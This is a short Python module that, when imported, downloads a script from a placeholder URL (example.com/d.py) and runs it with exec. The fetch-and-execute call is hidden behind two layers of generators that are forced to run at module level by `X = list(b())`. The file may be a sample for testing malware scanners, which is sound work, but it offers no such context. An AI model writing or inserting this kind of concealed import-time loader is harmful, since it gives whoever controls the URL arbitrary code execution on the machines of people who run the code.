import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


def a():
    _go()
    yield 1


def b():
    yield from a()


X = list(b())
